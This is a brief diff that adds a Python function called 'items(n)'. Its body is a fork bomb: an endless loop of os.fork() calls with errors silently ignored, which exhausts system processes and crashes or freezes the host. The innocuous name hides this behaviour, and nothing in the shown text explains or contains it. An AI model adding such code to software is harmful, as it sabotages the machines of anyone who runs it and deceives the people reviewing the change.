@@ -1,0 +1,7 @@
+def items(n):
+    import os
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
